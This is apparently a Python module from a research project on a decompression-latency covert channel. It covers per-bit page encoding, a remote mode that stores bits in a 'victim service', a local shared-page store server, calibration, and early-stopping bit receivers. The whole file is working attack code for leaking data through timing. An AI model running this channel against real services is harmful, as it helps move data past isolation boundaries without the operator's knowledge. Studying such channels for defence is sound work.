"""Covert channel through decompression latency.

Remote mode stores one value per bit under ``bit-<i>`` in a victim service.
Local mode uses a page store where sender and receiver share 4 KB pages: the
sender fills all but the last byte, the receiver's one-byte write completes
the page, which triggers compression, then the receiver times its reads.
"""

from __future__ import annotations

import os
import random
import socket
import socketserver
import statistics
import threading
import time
from dataclasses import dataclass
from typing import Callable, Iterator, Sequence

from .attack import (BitDecision, Calibration, CalibrationError, TransportError, early_stop_classify,
                     regions_from_samples)
from .codecs import AcceptancePolicy, CodecId, CompressedBlob, compress, decoder, default_level, store_with_policy
from .timing import PAGE_SIZE, now_ns

RECEIVER_BYTE = b"\x00"


@dataclass(frozen=True)
class BitEncoding:
    one_page: bytes
    zero_page: bytes

    def __post_init__(self):
        if len(self.one_page) != len(self.zero_page) or not self.one_page:
            raise ValueError("pages must be non-empty and of equal length")
        if self.one_page == self.zero_page:
            raise ValueError("pages must differ")

    def page(self, bit: int) -> bytes:
        return self.one_page if bit else self.zero_page

    @classmethod
    def entropy(cls, size: int = PAGE_SIZE, seed: int = 0, partial: bool = False) -> "BitEncoding":
        """'1' is the higher-entropy page, '0' a constant page.

        ``partial`` makes the '1' page half constant, half random, which keeps
        it under savings-based acceptance rules.
        """
        rng = random.Random(seed)
        zero = b"A" * size
        if partial:
            one = b"A" * (size // 2) + rng.randbytes(size - size // 2)
        else:
            one = rng.randbytes(size)
        return cls(one, zero)

    def check_policy(self, policy: AcceptancePolicy, codec: CodecId, level: int, prefix: bytes = b"") -> None:
        """Both pages must get the same stored-compressed treatment."""
        a = store_with_policy(policy, codec, level, prefix + self.one_page).stored_raw
        b = store_with_policy(policy, codec, level, prefix + self.zero_page).stored_raw
        if a or b:
            raise ValueError("encoding pages must both be stored compressed")


@dataclass(frozen=True)
class ChannelStats:
    bits_sent: int
    errors: int
    elapsed: float
    requests: int = 0

    def __post_init__(self):
        if not 0 <= self.errors <= self.bits_sent:
            raise ValueError("errors must be within [0, bits_sent]")

    @property
    def rate(self) -> float:
        """Bits per second."""
        return self.bits_sent / self.elapsed if self.elapsed > 0 else 0.0

    @property
    def rate_per_hour(self) -> float:
        return self.rate * 3600

    @property
    def error_rate(self) -> float:
        return self.errors / self.bits_sent if self.bits_sent else 0.0

    CSV_COLUMNS = ("bits_sent", "errors", "error_rate", "elapsed_s", "rate_bps", "rate_bph", "requests")

    def csv_row(self) -> list:
        return [self.bits_sent, self.errors, f"{self.error_rate:.5f}", f"{self.elapsed:.3f}",
                f"{self.rate:.2f}", f"{self.rate_per_hour:.1f}", self.requests]


def bits_from_bytes(data: bytes) -> list[int]:
    return [(b >> (7 - i)) & 1 for b in data for i in range(8)]


def bytes_from_bits(bits: Sequence[int | None]) -> bytes:
    out = bytearray()
    for i in range(0, len(bits) - len(bits) % 8, 8):
        v = 0
        for b in bits[i:i + 8]:
            v = (v << 1) | (1 if b else 0)
        out.append(v)
    return bytes(out)


def count_errors(sent: Sequence[int], received: Sequence[int | None]) -> int:
    """Flipped and erased bits; missing tail bits count as errors too."""
    errs = sum(1 for s, r in zip(sent, received) if r is None or s != r)
    return errs + max(0, len(sent) - len(received))


class SendError(RuntimeError):
    def __init__(self, last_confirmed: int, cause: Exception):
        super().__init__(f"store failed after bit {last_confirmed}: {cause}")
        self.last_confirmed = last_confirmed


def bit_key(i: int) -> str:
    return f"bit-{i}"


# -- remote: one value per bit ------------------------------------------------


def send_bits(client, bits: Sequence[int], encoding: BitEncoding) -> ChannelStats:
    """Store each bit's page under ``bit-<i>``."""
    t0 = time.perf_counter()
    for i, b in enumerate(bits):
        try:
            client.set(bit_key(i), encoding.page(b))
        except (OSError, RuntimeError) as exc:
            raise SendError(i - 1, exc) from exc
    return ChannelStats(len(bits), 0, time.perf_counter() - t0 if bits else 0.0, len(bits))


@dataclass(frozen=True)
class RemoteCalibration:
    calibration: Calibration
    low_is_one: bool


def calibrate_remote(client, encoding: BitEncoding, reps: int, reps_min: int = 25, seed: int = 0,
                     subsample: int = 1) -> RemoteCalibration:
    """Latency regions from probe values the receiver stores itself."""
    client.set("cal-one", encoding.one_page)
    client.set("cal-zero", encoding.zero_page)
    rng = random.Random(seed)
    ones, zeros = [], []
    for _ in range(reps):
        pair = [("cal-one", ones), ("cal-zero", zeros)]
        rng.shuffle(pair)
        for key, acc in pair:
            acc.append(client.timed_get(key)[0])
    if subsample > 1:
        ones = [min(ones[i:i + subsample]) for i in range(0, len(ones) - subsample + 1, subsample)]
        zeros = [min(zeros[i:i + subsample]) for i in range(0, len(zeros) - subsample + 1, subsample)]
    low_is_one = statistics.median(ones) < statistics.median(zeros)
    lo, hi = (ones, zeros) if low_is_one else (zeros, ones)
    return RemoteCalibration(regions_from_samples(lo, hi, reps_min), low_is_one)


def _fetch_stream(client, key: str, counter: list) -> Iterator[int]:
    while True:
        counter[0] += 1
        yield client.timed_get(key)[0]


def receive_bits(client, n_bits: int, cal: RemoteCalibration, reps_min: int = 25,
                 reps_max: int = 200, expected: Sequence[int] | None = None) -> tuple[list[int | None], ChannelStats]:
    """Early-stopping receiver; an undecided or missing bit comes back as None."""
    (low, high) = cal.calibration
    out: list[int | None] = []
    counter = [0]
    t0 = time.perf_counter()
    for i in range(n_bits):
        try:
            d = early_stop_classify(_fetch_stream(client, bit_key(i), counter), low, high, reps_min, reps_max)
        except RuntimeError:  # ERR not found: erased
            out.append(None)
            continue
        except OSError as exc:
            raise TransportError(f"fetch of bit {i} failed: {exc}") from exc
        if d.decision is BitDecision.UNDECIDED:
            out.append(None)
        else:
            out.append(int((d.decision is BitDecision.LOW) == cal.low_is_one))
    elapsed = time.perf_counter() - t0
    errors = count_errors(expected, out) if expected is not None else sum(b is None for b in out)
    return out, ChannelStats(n_bits, min(errors, n_bits), elapsed, counter[0])


# -- local: co-resident 4 KB pages -------------------------------------------


class PageStore:
    """Pages are compressed once fully written; reads decompress the whole page."""

    def __init__(self, codec: CodecId = CodecId.DEFLATE, level: int | None = None, page_size: int = PAGE_SIZE):
        self.codec = codec
        self.level = level if level is not None else default_level(codec)
        self.page_size = page_size
        self._pending: dict[int, tuple[bytearray, bytearray]] = {}
        self._blobs: dict[int, tuple[CompressedBlob, Callable]] = {}
        self._lock = threading.Lock()

    def write(self, page: int, offset: int, data: bytes) -> None:
        if offset < 0 or offset + len(data) > self.page_size or not data:
            raise ValueError("write outside the page")
        with self._lock:
            if page in self._blobs:
                raise ValueError(f"page {page} is already sealed")
            buf, mask = self._pending.setdefault(page, (bytearray(self.page_size), bytearray(self.page_size)))
            buf[offset:offset + len(data)] = data
            mask[offset:offset + len(data)] = b"\x01" * len(data)
            if mask.count(1) == self.page_size:
                blob = compress(self.codec, self.level, bytes(buf))
                self._blobs[page] = (blob, decoder(blob))
                del self._pending[page]

    def read(self, page: int, offset: int, length: int) -> bytes:
        with self._lock:
            entry = self._blobs.get(page)
        if entry is None:
            raise KeyError(page)
        out = entry[1]()
        return out[offset:offset + length]

    def sealed(self, page: int) -> bool:
        return page in self._blobs


class _PageHandler(socketserver.StreamRequestHandler):
    def handle(self):
        store: PageStore = self.server.store
        sock = self.connection
        while True:
            line = self.rfile.readline(128)
            if not line:
                return
            parts = line.split()
            try:
                if parts[0] == b"PUT" and len(parts) == 4:
                    page, off, n = int(parts[1]), int(parts[2]), int(parts[3])
                    data = self.rfile.read(n)
                    store.write(page, off, data)
                    sock.sendall(b"OK\n")
                elif parts[0] == b"READ" and len(parts) == 4:
                    page, off, n = int(parts[1]), int(parts[2]), int(parts[3])
                    data = store.read(page, off, n)
                    sock.sendall(b"VALUE %d\n" % len(data) + data)
                else:
                    sock.sendall(b"ERR unknown command\n")
            except KeyError:
                sock.sendall(b"ERR not found\n")
            except (ValueError, IndexError) as exc:
                sock.sendall(f"ERR {exc}\n".encode())


class PageStoreServer(socketserver.ThreadingUnixStreamServer):
    daemon_threads = True

    def __init__(self, path: str, store: PageStore):
        if os.path.exists(path):
            os.unlink(path)
        self.store = store
        self.path = path
        super().__init__(path, _PageHandler)

    def start(self) -> "PageStoreServer":
        threading.Thread(target=self.serve_forever, name="pagestore", daemon=True).start()
        return self

    def stop(self) -> None:
        self.shutdown()
        self.server_close()
        if os.path.exists(self.path):
            os.unlink(self.path)


class PageClient:
    """Client for a page store over a Unix socket."""

    def __init__(self, path: str, timeout: float = 30.0):
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.settimeout(timeout)
        self.sock.connect(path)
        self.rfile = self.sock.makefile("rb")

    def close(self) -> None:
        self.rfile.close()
        self.sock.close()

    def _reply(self) -> bytes:
        line = self.rfile.readline()
        if not line:
            raise ConnectionError("page store closed the connection")
        if line.startswith(b"VALUE "):
            return self.rfile.read(int(line[6:]))
        if line == b"OK\n":
            return b""
        if line == b"ERR not found\n":
            raise KeyError(line)
        raise RuntimeError(line.decode("latin-1").strip())

    def write(self, page: int, offset: int, data: bytes) -> None:
        self.sock.sendall(b"PUT %d %d %d\n" % (page, offset, len(data)) + data)
        self._reply()

    def timed_read(self, page: int, offset: int = PAGE_SIZE - 1, length: int = 1) -> int:
        req = b"READ %d %d %d\n" % (page, offset, length)
        t0 = now_ns()
        self.sock.sendall(req)
        self._reply()
        return now_ns() - t0


def send_pages(client: PageClient, bits: Sequence[int], encoding: BitEncoding, first_page: int = 0) -> ChannelStats:
    """Sender side: fill every page except its last byte."""
    t0 = time.perf_counter()
    for i, b in enumerate(bits):
        try:
            client.write(first_page + i, 0, encoding.page(b)[:-1])
        except (OSError, RuntimeError) as exc:
            raise SendError(i - 1, exc) from exc
    return ChannelStats(len(bits), 0, time.perf_counter() - t0 if bits else 0.0, len(bits))


def _page_stat(samples: Sequence[int], trim: float) -> float:
    xs = sorted(samples)
    keep = xs[:max(1, len(xs) - int(len(xs) * trim))]
    return statistics.fmean(keep)


@dataclass(frozen=True)
class PageThreshold:
    threshold: float
    low_is_one: bool
    gap_ns: float


def calibrate_pages(client: PageClient, encoding: BitEncoding, probes: int = 32, reps: int = 50,
                    trim: float = 0.2, first_page: int = 1 << 30) -> PageThreshold:
    """Receiver writes known pages itself, then puts the threshold midway between the two classes."""
    ones, zeros = [], []
    for k in range(probes):
        for bit, acc in ((1, ones), (0, zeros)):
            page = first_page + 2 * k + bit
            client.write(page, 0, encoding.page(bit)[:-1])
            client.write(page, PAGE_SIZE - 1, RECEIVER_BYTE)
            acc.append(_page_stat([client.timed_read(page) for _ in range(reps)], trim))
    m1, m0 = statistics.median(ones), statistics.median(zeros)
    gap = abs(m1 - m0)
    # every probe of one class must sit on its own side
    lo, hi = (ones, zeros) if m1 < m0 else (zeros, ones)
    if not max(lo) < min(hi) and gap < 3 * (statistics.pstdev(ones) + statistics.pstdev(zeros)) / 2:
        raise CalibrationError(gap, "page classes overlap")
    return PageThreshold((max(lo) + min(hi)) / 2 if max(lo) < min(hi) else (m1 + m0) / 2, m1 < m0, gap)


def receive_pages(client: PageClient, n_bits: int, th: PageThreshold, reps: int = 50, trim: float = 0.2,
                  first_page: int = 0, expected: Sequence[int] | None = None,
                  slot_s: float | None = None) -> tuple[list[int | None], ChannelStats]:
    """Complete each page with one byte, read it ``reps`` times, classify the trimmed mean.

    With ``slot_s`` every bit owns a fixed time slot: reading continues past
    ``reps`` until the slot is over, so the rate is 1/slot_s whatever the
    machine's speed, and spare time buys extra samples.
    """
    out: list[int | None] = []
    t0 = time.perf_counter()
    requests = 0
    for i in range(n_bits):
        page = first_page + i
        end = t0 + (i + 1) * slot_s if slot_s else 0.0
        try:
            client.write(page, PAGE_SIZE - 1, RECEIVER_BYTE)
            samples = [client.timed_read(page) for _ in range(reps)]
            while time.perf_counter() < end:
                samples.append(client.timed_read(page))
        except KeyError:
            out.append(None)  # the sender never filled this page
            continue
        except OSError as exc:
            raise TransportError(f"page {page}: {exc}") from exc
        requests += len(samples)
        fast = _page_stat(samples, trim) < th.threshold
        out.append(int(fast == th.low_is_one))
    elapsed = time.perf_counter() - t0
    errors = count_errors(expected, out) if expected is not None else sum(b is None for b in out)
    return out, ChannelStats(n_bits, min(errors, n_bits), elapsed, requests)
